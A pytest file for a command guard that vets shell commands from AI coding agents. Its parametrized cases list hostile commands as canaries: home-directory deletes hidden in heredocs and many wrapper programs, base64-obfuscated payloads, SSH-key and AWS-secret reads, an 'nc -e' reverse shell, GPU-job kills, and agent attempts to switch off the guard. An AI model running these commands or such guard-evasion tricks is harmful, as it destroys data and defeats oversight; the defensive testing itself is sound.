"""The guard's second pass (issue 20): parser-level bypasses, the look-through table, protected targets,
GPUs, false stops, the node role. Canaries only: every command here is a string the guard reads, never runs."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from frontdesk.config import load_settings
from frontdesk.errors import ConfigError
from frontdesk.guard.checker import check
from frontdesk.guard.context import context_from_settings, node_role_and_source
from frontdesk.guard.lookthrough import LOOK_THROUGH
from frontdesk.guard.model import Decision, GuardContext, NodeRole, Partition
from frontdesk.guard.rules import Rule, classify_path
from frontdesk.guard.shell import Word, parse

HOME = "/home/alice"
ENV = {"HOME": HOME, "USER": "alice", "PATH": "/usr/bin:/bin", "SCRATCH": "/scratch/alice"}


def ctx(**kw: object) -> GuardContext:
    base: dict[str, object] = {
        "env": dict(ENV),
        "cwd": f"{HOME}/project",
        "home": HOME,
        "scratch_roots": ("/scratch", "/scratch/alice"),
        "shared_paths": ("/project/shared",),
        "partitions": {"test": Partition("test", "test", 3600, 2)},
    }
    base.update(kw)
    return GuardContext(**base)  # type: ignore[arg-type]


def verdict(command: str, **kw: object) -> Decision:
    return check(command, ctx(**kw)).decision


# -- 1. parser-level bypasses -------------------------------------------------------------------------
@pytest.mark.parametrize(
    "command", ["rm -rf 2>/dev/null ~", "rm 2>/dev/null -rf ~", "rm -rf >/dev/null 2>&1 ~/", "rm -rf </dev/null ~"]
)
def test_words_after_a_redirection_are_arguments(command: str) -> None:
    [inv] = parse(command, ENV).invocations
    assert inv.program == "rm" and HOME in [w.text.rstrip("/") for w in inv.args]
    assert verdict(command) is Decision.DENY


@pytest.mark.parametrize(
    "command",
    [
        "bash <<EOF\nrm -rf ~\nEOF\n",
        "sh <<'EOF'\nrm -rf /\nEOF\n",
        "bash <<< 'rm -rf ~'",
        'bash <<<"rm -rf $HOME"',
        "echo 'rm -rf ~' | sh -s",
        "printf 'rm -rf ~\\n' | bash",
        "cat <<EOF | bash\nrm -rf ~\nEOF\n",
    ],
)
def test_heredoc_here_string_and_echo_bodies_run_by_a_shell_are_checked(command: str) -> None:
    assert verdict(command) is Decision.DENY


@pytest.mark.parametrize(
    ("command", "shell"),
    [
        ("python3 - <<'EOF'\nimport shutil\nshutil.rmtree('data')\nEOF\n", "rm -rf data"),
        ("cat <<'EOF' | python3 -\nimport os; os.remove('x.csv')\nEOF\n", "rm -f x.csv"),
        ("python3 <<< 'import shutil; shutil.rmtree(\"out\")'", "rm -rf out"),
        ("python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/home/alice')\nEOF\n", "rm -rf /home/alice"),
        ("python3 <<< 'import shutil; shutil.rmtree(\"/scratch/alice\")'", "rm -rf /scratch/alice"),
    ],
)
def test_python_fed_code_on_stdin_that_deletes_gets_the_shells_decision(command: str, shell: str) -> None:
    # read as the rm it amounts to (codedelete.py): the same decision for the same effect
    assert verdict(command) is verdict(shell)


@pytest.mark.parametrize(
    "command",
    [
        "python3 - <<'EOF'\nimport shutil, sys\nshutil.rmtree(sys.argv[1])\nEOF\n",
        "cat <<'EOF' | python3 -\nimport os; [os.remove(f) for f in os.listdir('.')]\nEOF\n",
    ],
)
def test_python_fed_code_on_stdin_that_deletes_what_it_cannot_read_is_stopped(command: str) -> None:
    assert verdict(command) is not Decision.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "cat <<EOF > notes.txt\nrm -rf /\nEOF\n",
        "python3 - <<'EOF'\nprint('hi')\nEOF\n",
        "bash <<< 'ls -la'",
        "grep -c x <<< 'rm -rf /'",
    ],
)
def test_heredoc_data_that_is_not_run_is_allowed(command: str) -> None:
    assert verdict(command) is Decision.ALLOW


def test_command_substitution_inside_arithmetic_is_found() -> None:
    assert verdict("echo $(( $(rm -rf ~) + 1 ))") is Decision.DENY
    assert verdict("echo $((1+`rm -rf ~`))") is Decision.DENY


# One spelling per look-through row (the test below checks every row of the table is exercised).
WRAPPED = {
    "nohup": "nohup rm -rf ~",
    "exec": "exec -a name rm -rf ~",
    "command": "command rm -rf ~",
    "builtin": "builtin rm -rf ~",
    "setsid": "setsid rm -rf ~",
    "unbuffer": "unbuffer rm -rf ~",
    "caffeinate": "caffeinate rm -rf ~",
    "catchsegv": "catchsegv rm -rf ~",
    "xvfb-run": "xvfb-run rm -rf ~",
    "proxychains": "proxychains rm -rf ~",
    "proxychains4": "proxychains4 rm -rf ~",
    "torsocks": "torsocks rm -rf ~",
    "ltrace": "ltrace rm -rf ~",
    "busybox": "busybox rm -rf ~",
    "nocache": "nocache rm -rf ~",
    "eatmydata": "eatmydata rm -rf ~",
    "firejail": "firejail rm -rf ~",
    "time": "time -f %e rm -rf ~",
    "nice": "nice -n 19 rm -rf ~",
    "ionice": "ionice -c 3 rm -rf ~",
    "chrt": "chrt 10 rm -rf ~",
    "taskset": "taskset 0x3 rm -rf ~",
    "stdbuf": "stdbuf -o L rm -rf ~",
    "numactl": "numactl -N 0 rm -rf ~",
    "flock": "flock -w 5 /tmp/lock rm -rf ~",
    "strace": "strace -o trace.txt rm -rf ~",
    "timeout": "timeout -s KILL 60 rm -rf ~",
    "watch": "watch -n 60 rm -rf ~",
    "srun": "srun --time 10 --ntasks 2 rm -rf ~",
    "salloc": "salloc -N 1 --partition test rm -rf ~",
    "mpirun": "mpirun -np 4 --map-by core rm -rf ~",
    "mpiexec": "mpiexec -n 2 rm -rf ~",
    "ssh": "ssh -p 2222 node01 'rm -rf ~'",
    "docker": "docker exec -it -u alice box rm -rf /home/alice",
    "podman": "podman exec box rm -rf ~",
    "nerdctl": "nerdctl exec box rm -rf ~",
    "kubectl": "kubectl exec -n ml pod -- rm -rf ~",
    "apptainer": "apptainer exec --nv -B /scratch image.sif rm -rf ~",
    "singularity": "singularity exec image.sif rm -rf ~",
    "conda": "conda run -n base rm -rf ~",
    "mamba": "mamba run -n ml rm -rf ~",
    "micromamba": "micromamba run -n ml rm -rf ~",
    "uv": "uv run --with rich rm -rf ~",
    "pixi": "pixi run -e gpu rm -rf ~",
    "poetry": "poetry run rm -rf ~",
    "pipenv": "pipenv run rm -rf ~",
    "pdm": "pdm run rm -rf ~",
    "hatch": "hatch run rm -rf ~",
    "rye": "rye run rm -rf ~",
    "tmux": "tmux send-keys -t main 'rm -rf ~' Enter",
    "screen": "screen -dmS job rm -rf ~",
    "runuser": "runuser -u alice -- rm -rf ~",
    "systemd-run": "systemd-run --user -p MemoryMax=1G --unit x rm -rf ~",
    "proot": "proot -b /scratch rm -rf ~",
    "coproc": "coproc rm -rf ~",
    # round three: every program that runs another command (privileges, namespaces, terminals, cluster shells)
    "toybox": "toybox rm -rf ~",
    "dbus-run-session": "dbus-run-session rm -rf ~",
    "linux32": "linux32 rm -rf ~",
    "linux64": "linux64 rm -rf ~",
    "tini": "tini -- rm -rf ~",
    "dumb-init": "dumb-init rm -rf ~",
    "catatonit": "catatonit -- rm -rf ~",
    "prime-run": "prime-run rm -rf ~",
    "optirun": "optirun rm -rf ~",
    "primusrun": "primusrun rm -rf ~",
    "vglrun": "vglrun rm -rf ~",
    "torify": "torify rm -rf ~",
    "tsocks": "tsocks rm -rf ~",
    "ifne": "ifne rm -rf ~",
    "chronic": "chronic rm -rf ~",
    "nq": "nq rm -rf ~",
    "tsp": "tsp rm -rf ~",
    "run-one": "run-one rm -rf ~",
    "run-this-one": "run-this-one rm -rf ~",
    "keep-one-running": "keep-one-running rm -rf ~",
    "valgrind": "valgrind --leak-check=full rm -rf ~",
    "fakeroot": "fakeroot -- rm -rf ~",
    "unshare": "unshare -r --map-user 0 rm -rf ~",
    "nsenter": "nsenter -t 1 -m rm -rf ~",
    "chroot": "chroot --userspec alice / rm -rf ~",
    "setpriv": "setpriv --reuid 1000 rm -rf ~",
    "prlimit": "prlimit --nofile=1024 rm -rf ~",
    "cgexec": "cgexec -g cpu:batch rm -rf ~",
    "systemd-inhibit": "systemd-inhibit --why backup rm -rf ~",
    "dbus-launch": "dbus-launch rm -rf ~",
    "setarch": "setarch x86_64 -R rm -rf ~",
    "faketime": "faketime '2020-01-01' rm -rf ~",
    "daemonize": "daemonize -c /tmp rm -rf ~",
    "ssh-agent": "ssh-agent -t 60 rm -rf ~",
    "sshpass": "sshpass -f pw.txt rm -rf ~",
    "trickle": "trickle -d 100 rm -rf ~",
    "cpulimit": "cpulimit -l 50 -- rm -rf ~",
    "entr": "entr rm -rf ~",
    "perf": "perf stat -e cycles rm -rf ~",
    "nsys": "nsys profile -o prof --trace cuda rm -rf ~",
    "ncu": "ncu -o prof --set full rm -rf ~",
    "gdb": "gdb --args rm -rf ~",
    "cuda-gdb": "cuda-gdb --args rm -rf ~",
    "lldb": "lldb -- rm -rf ~",
    "xterm": "xterm -e rm -rf ~",
    "uxterm": "uxterm -e rm -rf ~",
    "urxvt": "urxvt -e rm -rf ~",
    "konsole": "konsole -e rm -rf ~",
    "lxterminal": "lxterminal -e rm -rf ~",
    "alacritty": "alacritty -e rm -rf ~",
    "gnome-terminal": "gnome-terminal -- rm -rf ~",
    "xfce4-terminal": "xfce4-terminal -x rm -rf ~",
    "pdsh": "pdsh -w node[01-04] rm -rf ~",
    "clush": "clush -w node[01-04] -b 'rm -rf ~'",
    "pssh": "pssh -h hosts.txt -i 'rm -rf ~'",
    "parallel-ssh": "parallel-ssh -h hosts.txt 'rm -rf ~'",
    "aprun": "aprun -n 4 -N 1 rm -rf ~",
    "jsrun": "jsrun -n 2 --bind none rm -rf ~",
    "ibrun": "ibrun -n 4 rm -rf ~",
    "nix-shell": "nix-shell -p hello --run 'rm -rf ~'",
    "nix": "nix develop -c rm -rf ~",
    "guix": "guix shell python -- rm -rf ~",
    "direnv": "direnv exec . rm -rf ~",
    "pyenv": "pyenv exec rm -rf ~",
    "rbenv": "rbenv exec rm -rf ~",
    "nodenv": "nodenv exec rm -rf ~",
    "bundle": "bundle exec rm -rf ~",
    "npx": "npx -c 'rm -rf ~'",
    "lxc": "lxc exec box -- rm -rf ~",
    "incus": "incus exec box -- rm -rf ~",
    "oc": "oc exec pod -- rm -rf ~",
    "distrobox": "distrobox enter box -- rm -rf ~",
    "toolbox": "toolbox run -c box rm -rf ~",
    "flatpak-spawn": "flatpak-spawn --host rm -rf ~",
    "hyperfine": "hyperfine --warmup 1 'rm -rf ~'",
    "sem": "sem -j 2 --id backup rm -rf ~",
}


@pytest.mark.parametrize("wrapper", sorted(WRAPPED))
def test_the_look_through_table_finds_the_inner_command(wrapper: str) -> None:
    assert verdict(WRAPPED[wrapper]) is Decision.DENY, WRAPPED[wrapper]
    harmless = WRAPPED[wrapper].replace("rm -rf ~", "ls ~").replace("rm -rf /home/alice", "ls")
    if wrapper in ("chroot", "nsenter", "unshare"):  # privileged on their own: priv.sudo asks, never less
        assert check(harmless, ctx()).rule == "priv.sudo", harmless
    else:
        assert verdict(harmless) is Decision.ALLOW, harmless


def test_every_look_through_row_is_exercised() -> None:
    assert set(LOOK_THROUGH) <= set(WRAPPED)


@pytest.mark.parametrize(
    "command",
    [
        "sbatch --wrap='rm -rf ~'",
        "sbatch -p gpu --wrap 'rm -rf ~'",
        "flock -c 'rm -rf ~' /tmp/lock",
        "env -S 'rm -rf ~'",
        "parallel rm -rf ::: ~",
        "parallel -j2 rm -rf {} ::: build ~",
        "parallel ::: 'rm -rf ~'",
        "echo ~ | xargs rm -rf",
        "echo / | xargs -I{} bash -c 'rm -rf {}'",
        "echo / | xargs --replace bash -c 'rm -rf {}'",
        "tmux new -d 'rm -rf ~'",
        "find . -maxdepth 0 -exec sh -c 'rm -rf ~' \\;",
        "awk 'BEGIN{system(\"rm -rf ~\")}'",
        "perl -e 'system(\"rm -rf ~\")'",
        "ruby -e 'system(\"rm -rf ~\")'",
        'node -e \'require("child_process").execSync("rm -rf ~")\'',
        "python3 -c 'import os; os.system(\"rm -rf ~\")'",
    ],
)
def test_commands_inside_option_values_and_special_wrappers(command: str) -> None:
    assert verdict(command) is Decision.DENY


def test_an_option_value_is_not_taken_for_the_program() -> None:
    invs = parse("srun --time 10 --mem 4G hostname", ENV).invocations
    assert [i.program for i in invs] == ["srun", "hostname"]
    invs = parse("timeout 60 python eval.py", ENV).invocations
    assert invs[-1].program == "python" and invs[-1].via == ["timeout"]


# -- 2. targets ---------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("path", "target"),
    [
        ("/scratch/alice", "scratch-root"),
        ("/scratch", "scratch-root"),
        ("/scratch/bob", "scratch-root"),
        ("~/.ssh", "credentials"),
        ("~/.ssh/id_ed25519", "credentials"),
        ("~/.gnupg", "credentials"),
        ("~/.codex/auth.json", "credentials"),
        ("~/.claude/.credentials.json", "credentials"),
        ("~/.config/gh/hosts.yml", "credentials"),
        ("~/.netrc", "credentials"),
        (".git", "git-dir"),
        ("~bob/data", "other-home"),
        (".", "project-root"),
        ("~/projects", "project-root"),
        ("*", "project-root"),
        ("~/miniconda3", "env-prefix"),
        ("/some/path", "outside"),
        ("/dev/nvidia0", "gpu-device"),
    ],
)
def test_protected_targets(path: str, target: str) -> None:
    assert target in classify_path(Word(path, path), ctx())


@pytest.mark.parametrize(
    ("path", "target"),
    [
        ("/scratch/alice/runs/old", "scratch-root"),
        ("~/.ssh/id_ed25519.pub", "credentials"),
        ("./build", "project-root"),
        ("~/.cache/pip", "project-root"),
        ("/tmp/alice-build", "outside"),
        ("/scratch/alice/x", "outside"),
    ],
)
def test_ordinary_paths_are_not_protected(path: str, target: str) -> None:
    assert target not in classify_path(Word(path, path), ctx())


def test_conda_and_venv_prefixes_come_from_the_environment() -> None:
    env = {**ENV, "CONDA_PREFIX": "/opt/envs/ml", "VIRTUAL_ENV": f"{HOME}/project/.venv"}
    assert verdict("rm -rf /opt/envs/ml", env=env) is Decision.ASK
    assert verdict("rm -rf .venv", env=env) is Decision.ASK
    assert verdict("rm -rf .venv/lib/python3.11/site-packages/x", env=env) is Decision.ALLOW


def test_declared_project_roots_and_shared_paths() -> None:
    assert verdict("rm -rf /data/thesis", project_roots=("/data/thesis",)) is Decision.ASK
    assert verdict("rm -rf /data/thesis/tmp", project_roots=("/data/thesis",)) is Decision.ALLOW
    assert verdict("rsync -a --delete out/ /project/shared/") is Decision.ASK


def test_filters_do_not_make_a_home_delete_safe() -> None:
    assert verdict("find ~ -type f -mtime +60 -delete") is Decision.ASK
    assert verdict("find ~ -delete") is Decision.DENY
    assert verdict("find . -name '*.pyc' -delete") is Decision.ALLOW


# -- 4. shared GPUs -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "command",
    [
        "kill $(nvidia-smi --query-compute-apps=pid --format=csv,noheader)",
        "nvidia-smi --query-compute-apps=pid --format=csv,noheader | xargs kill -9",
        "fuser -k /dev/nvidia*",
        "pkill python",
        "killall -9 python3",
    ],
)
def test_killing_gpu_processes_is_denied_where_frontdesk_manages_the_gpus(command: str) -> None:
    result = check(command, ctx(gpus_managed=True))
    assert result.decision is Decision.DENY and result.rule == "gpu.kill-others"
    assert result.alternative and "frontdesk run --gpus" in result.alternative or "frontdesk" in str(result.alternative)
    assert check(command, ctx()).decision is Decision.ASK


def test_gpu_admin_and_gpu_work_outside_the_queue() -> None:
    assert verdict("nvidia-smi --gpu-reset -i 0") is Decision.ASK
    assert verdict("nvidia-smi -lgc 1500") is Decision.ASK
    assert verdict("nvidia-smi -L") is Decision.ALLOW
    outside = check("torchrun --nproc_per_node=4 train.py", ctx(gpus_managed=True))
    assert outside.decision is Decision.ASK and "frontdesk run --gpus" in str(outside.alternative)
    assert verdict("torchrun --nproc_per_node=4 train.py") is Decision.ALLOW
    assert verdict("frontdesk run --gpus 4 -- torchrun train.py", gpus_managed=True) is Decision.ALLOW
    assert verdict("torchrun train.py", gpus_managed=True, node_role=NodeRole.COMPUTE) is Decision.ALLOW


def test_gpus_managed_must_be_a_boolean_in_a_rule_file() -> None:
    with pytest.raises(ValueError):
        Rule.from_dict({"id": "x", "reason": "r", "gpus_managed": "yes"}, "site.toml #1")


# -- 5. false stops, the agent's own safeguards, the node role ---------------------------------------
@pytest.mark.parametrize(
    "command", ["make -j 4", "make -j4", "cmake --build build -j 2", "ninja -j 2", "make -j 4 install"]
)
def test_a_small_parallel_build_on_a_login_node_is_fine(command: str) -> None:
    assert verdict(command, node_role=NodeRole.LOGIN) is Decision.ALLOW
    assert verdict(command.replace("4", "64").replace("2", "64"), node_role=NodeRole.LOGIN) is Decision.ASK


def test_git_restore_staged_only_unstages() -> None:
    assert verdict("git restore --staged .") is Decision.ALLOW
    assert verdict("git restore .") is Decision.ASK
    assert verdict("git restore --staged --worktree .") is Decision.ASK


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf .claude/hooks",
        "rm ~/.claude/settings.json",
        "python3 -c \"import pathlib; pathlib.Path('.claude/settings.json').write_text('{}')\"",
        "export FRONTDESK_GUARD=off",
        "frontdesk guard off",
        "cp /dev/null /etc/frontdesk/site-rules.toml",
    ],
)
def test_weakening_frontdesk_is_the_same_as_skipping_permissions(command: str) -> None:
    skip = check("claude --dangerously-skip-permissions", ctx())
    result = check(command, ctx(protected_files=("/etc/frontdesk/site-rules.toml",)))
    assert result.decision is skip.decision is Decision.DENY and result.rule == skip.rule


def test_node_role_sources() -> None:
    assert node_role_and_source({}, {"FRONTDESK_NODE_ROLE": "login"}, "x") == (NodeRole.LOGIN, "FRONTDESK_NODE_ROLE")
    assert node_role_and_source({}, {"SLURM_JOB_ID": "42"}, "x") == (NodeRole.COMPUTE, "SLURM_JOB_ID")
    assert node_role_and_source({"node_role": "login"}, {}, "x")[1] == "[guard] node_role"
    section = {"login_hosts": ["login*"], "compute_hosts": ["gpu*"]}
    assert node_role_and_source(section, {}, "login2.lab") == (NodeRole.LOGIN, "[guard] login_hosts")
    assert node_role_and_source(section, {}, "gpu07") == (NodeRole.COMPUTE, "[guard] compute_hosts")
    assert node_role_and_source(section, {}, "laptop") == (NodeRole.WORKSTATION, "default")
    with pytest.raises(ConfigError):
        node_role_and_source({"login_hosts": "login*", "node_role": "moon"}, {}, "x")


def _settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str) -> object:
    (tmp_path / "frontdesk.toml").write_text(text)
    monkeypatch.setenv("FRONTDESK_HOME", str(tmp_path))
    for name in ("FRONTDESK_NODE_ROLE", "SLURM_JOB_ID", "FRONTDESK_CONFIG", "FRONTDESK_LOCAL_GPUS"):
        monkeypatch.delenv(name, raising=False)
    return load_settings()


def test_context_reads_the_second_pass_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    settings = _settings(tmp_path, monkeypatch, '[guard]\nproject_roots = ["/data/thesis"]\ngpus_managed = true\n')
    gctx = context_from_settings(settings, with_taint=False)
    assert gctx.project_roots == ("/data/thesis",) and gctx.gpus_managed
    assert str(tmp_path / "frontdesk.toml") in gctx.protected_files
    assert check(f"rm {tmp_path}/frontdesk.toml", gctx).rule == "agent.sandbox-widen"
    settings = _settings(tmp_path, monkeypatch, "[local]\ngpus = 2\n")
    assert context_from_settings(settings, with_taint=False).gpus_managed  # the embedded backend hands them out
    settings = _settings(tmp_path, monkeypatch, '[guard]\ngpus_managed = "yes"\n')
    with pytest.raises(ConfigError):
        context_from_settings(settings, with_taint=False)


def test_the_shipped_site_example_makes_the_lab_partition_rule_live(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    example = Path(__file__).resolve().parents[3] / "src/frontdesk/guard/site-example.toml"
    shutil.copy(example, tmp_path / "frontdesk.toml")
    gctx = context_from_settings(_settings(tmp_path, monkeypatch, example.read_text()), with_taint=False)
    assert {"test", "agent", "training", "hpc"} <= set(gctx.partitions)
    assert check("sbatch -p test -t 3:00:00 job.sh", gctx).rule == "slurm.test-partition"
    assert check("srun --partition agent --time 120 python x.py", gctx).rule == "slurm.test-partition"
    assert check("sbatch -p training -t 2-00:00:00 job.sh", gctx).decision is Decision.ALLOW
    assert check("sbatch -p test -t 00:20:00 job.sh", gctx).decision is Decision.ALLOW


def test_loops_that_flood_the_scheduler() -> None:
    assert verdict("while true; do sbatch job.sh; done") is Decision.ASK
    assert verdict("for i in $(seq 1 1000); do sbatch run.sh $i; done") is Decision.ASK
    assert verdict("for i in 1 2 3; do sbatch run.sh $i; done") is Decision.ALLOW
    assert verdict("sbatch --array=1-1000%50 job.sh") is Decision.ALLOW


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("source /tmp/setup.sh", "shell.stdin-exec"),
        ("eval $USER_INPUT", "shell.stdin-exec"),
        ("cat script.txt | bash", "shell.stdin-exec"),
        ("echo ok | xargs bash -c", "shell.stdin-exec"),
        ("bash<<<$(base64 -d<<<cm0gLXJmIH4K)", "shell.obfuscated"),
        ("echo cm0gLXJmIH4K | base64 -d | sh", "shell.obfuscated"),
        ("IFS=, ; cat,~/.ssh/id_rsa", "shell.obfuscated"),
        ("cat${IFS}~/.ssh/id_rsa", "shell.obfuscated"),
        ("ps | awk '{print | \"bash\"}'", "shell.stdin-exec"),
        ("awk '{print > \"/etc/cron.d/job\"}' x", "fs.system-write"),
        ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", "secret.read"),
        ("echo $AWS_SECRET_ACCESS_KEY", "secret.read"),
        ("rm -rf $TMPDIR/../escape", "fs.rm-wide"),
        ("xargs -a paths.txt rm -rf", "fs.rm-wide"),
        ("nc -e /bin/bash 10.0.0.1 4444", "net.reverse-shell"),
    ],
)
def test_hidden_code_and_secrets(command: str, rule: str) -> None:
    assert rule in check(command, ctx()).matches


@pytest.mark.parametrize(
    "command",
    [
        'eval "$(ssh-agent -s)"',
        "source <(conda shell.bash hook)",
        "source ~/.bashrc",
        "cat data.json | python3 -m json.tool",
        "echo 'unterminated",
        '[ -n "${HF_TOKEN:+set}" ] && echo set',
    ],
)
def test_common_idioms_stay_allowed(command: str) -> None:
    assert verdict(command) is Decision.ALLOW


def test_a_quote_left_open_is_read_with_the_quote_closed() -> None:
    assert verdict('echo "$(rm -rf ~)') is Decision.DENY  # still seen
    assert check("echo $(( 1 +", ctx()).rule == "parse.error"  # a real parse error still asks
